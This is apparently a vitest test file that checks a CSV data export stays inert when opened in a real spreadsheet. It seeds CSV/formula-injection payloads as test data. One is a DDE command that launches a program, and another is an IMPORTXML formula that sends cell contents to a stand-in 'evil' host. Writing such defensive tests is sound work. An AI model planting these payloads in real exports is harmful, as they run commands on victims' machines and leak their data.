import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestEnv, fulfillInProcess, getObject, requestRow, type TestEnv } from '../support/harness.ts';
import { EVERY_PLANE, SPREADSHEET_PAYLOADS } from '../support/hostile.ts';
import { insertFeature, insertProject, insertRelease, insertRequest, insertRun, insertUser } from '../support/seed.ts';
import { openInCalc, type SheetCell } from '../support/spreadsheet.ts';
import { toolAvailable } from '../support/tools.ts';
import { readZip } from '../support/zip.ts';

/*
 * The CSV files of a hostile-data archive opened in a real spreadsheet
 * (LibreOffice Calc, headless) with its most dangerous import settings:
 * split on comma, semicolon and tab, trim spaces, evaluate formulas.
 */
describe.runIf(toolAvailable('soffice'))('CSV in a real spreadsheet', () => {
  let env: TestEnv;
  beforeAll(async () => {
    env = await createTestEnv();
  });
  afterAll(async () => {
    await env?.close();
  });

  /** Columns that are numbers in the export: the spreadsheet must see numbers. */
  const NUMERIC = new Set(['number', 'duration_ms']);
  /** Text the spreadsheet may show as a number (README.txt says so): its value must be the same number. */
  const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

  function expectCellMatches(file: string, column: string, expected: string, cell: SheetCell | undefined) {
    const where = `${file} ${column} ${JSON.stringify(expected.slice(0, 40))}`;
    expect(cell?.formula, `${where}: became a formula`).toBeUndefined();
    if (expected === '') return expect(cell === undefined || cell.text === '', where).toBe(true);
    if (NUMERIC.has(column)) {
      expect(cell?.type, where).toBe('float');
      // Above 15 significant digits a spreadsheet keeps only 15 (README.txt says so); the JSON has them all.
      return expect(Number(cell!.value), where).toBeCloseTo(
        Number(expected),
        -Math.max(0, expected.replace(/^-/, '').length - 15),
      );
    }
    if (cell?.type === 'float' && PLAIN_NUMBER.test(expected))
      return expect(Number(cell.value), where).toBe(Number(expected));
    if (cell?.type === 'date' && /^\d{4}-\d\d-\d\dT/.test(expected))
      return expect(expected.startsWith(cell.value!.slice(0, 19)), where).toBe(true);
    expect(cell?.type, where).toBe('string');
    expect(cell!.text, where).toBe(asSpreadsheetText(expected));
  }

  /**
   * What a spreadsheet cell holds of a text: line breaks (CRLF, CR, LF) are
   * line breaks, and C0 control characters other than tab cannot be held
   * (nor written to XML), so they are dropped; Calc 7.4 also drops the tabs
   * of a cell that spans lines, and a cell holds at most 65,535 characters.
   * The JSON keeps every one.
   */
  const asSpreadsheetText = (text: string) => {
    const lines = text.replace(/\r\n?/g, '\n');
    const held = (lines.includes('\n') ? lines.replaceAll('\t', '') : lines).replace(
      /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g,
      '',
    );
    // Calc's CSV import keeps the first 65,535 characters of a cell (Excel: 32,767); the rows after are untouched.
    return held.slice(0, 65_535);
  };

  it('no cell becomes a formula, no cell is split, numbers stay numbers, text and every Unicode plane arrive intact, the header has no BOM', async () => {
    const user = await insertUser(env.admin, { name: EVERY_PLANE });
    const project = await insertProject(env.admin, user, {
      name: '=cmd|" /C calc"!A0',
      description: 'line one\r\nline two\r\n"quoted", comma',
    });
    const nested = `${'{"a":'.repeat(500)}[1, 18446744073709551615, "\\u0001x"]${'}'.repeat(500)}`;
    await insertFeature(env.admin, project, {
      key: '@IMPORTXML(CONCAT("http://evil/?", A1))',
      title: `${'big cell '.repeat(1_165_000)}end`,
      metadata: nested,
    });
    for (const [i, payload] of SPREADSHEET_PAYLOADS.entries()) {
      await insertRelease(env.admin, project, { version: payload, notes: payload });
      // jsonb is written without the formula rule (its text never starts a formula): a JSON string holding a payload, and a negative number, must stay inert.
      await insertRun(env.admin, project, {
        number: i + 1,
        branch: payload,
        durationMs: i % 2 ? '-5' : '9007199254740993',
        metadata: i % 3 === 2 ? '-12.5' : JSON.stringify(payload),
      });
    }
    const id = await insertRequest(env.admin, user);
    expect((await fulfillInProcess(env, { requestIds: [id] })).summary.ready).toBe(1);
    const files = await readZip(await getObject(env, (await requestRow(env, id))!.object_key));
    const csvFiles = new Map([...files].filter(([name]) => name.startsWith('csv/')));
    expect(csvFiles.size).toBe(7);

    // Every text value is quoted in the file itself; numbers are not.
    const runsCsv = csvFiles.get('csv/pipeline_runs.csv')!.toString('utf8');
    expect(runsCsv).toMatch(/^\uFEFFid,project_id,feature_id,number,status,trigger,branch,/);
    expect(runsCsv).toMatch(/\n"[0-9a-f-]{36}","[0-9a-f-]{36}",,\d+,"passed","push",/);

    const sheets = await openInCalc(csvFiles);
    for (const [name, bytes] of csvFiles) {
      const expected = parseCsv(bytes.toString('utf8'), { bom: true, relax_column_count: false }) as string[][];
      const sheet = sheets.get(name)!;
      const header = expected[0]!;
      expect(
        sheet[0]!.map((c) => c.text),
        `${name}: header`,
      ).toEqual(header);
      expect(sheet, `${name}: one spreadsheet row per CSV row`).toHaveLength(expected.length);
      for (const [r, row] of expected.entries()) {
        if (r === 0) continue;
        expect(sheet[r]!.length, `${name} row ${r}: no cell split into more`).toBeLessThanOrEqual(header.length);
        for (const [c, value] of row.entries()) expectCellMatches(name, header[c]!, value, sheet[r]![c]);
      }
    }

    // What a person sees for the payloads, spelled out.
    const releases = sheets.get('csv/releases.csv')!;
    const versionColumn = releases[0]!.findIndex((c) => c.text === 'version');
    const shown = new Map(releases.slice(1).map((row) => [row[versionColumn]!.text, row[versionColumn]!]));
    expect(shown.get("'=1+1")?.type).toBe('string');
    expect(shown.get("' =1+1")?.type).toBe('string');
    expect(shown.get("'+15551234567")?.type).toBe('string'); // the phone number keeps its "+", as text
    expect(shown.get("'+44 20 7946 0958")?.type).toBe('string');
    expect(shown.get('x;=1+1')?.type).toBe('string'); // not split at the semicolon
    expect(shown.get('a\t=2+2')?.type).toBe('string'); // nor at the tab
    expect(
      releases
        .slice(1)
        .map((row) => row[versionColumn]!)
        .find((c) => c.type === 'float' && c.value === '-12.5'),
    ).toBeDefined();
    const users = sheets.get('csv/users.csv')!;
    expect(users[1]![users[0]!.findIndex((c) => c.text === 'name')]!.text).toBe(asSpreadsheetText(EVERY_PLANE));
  });
});
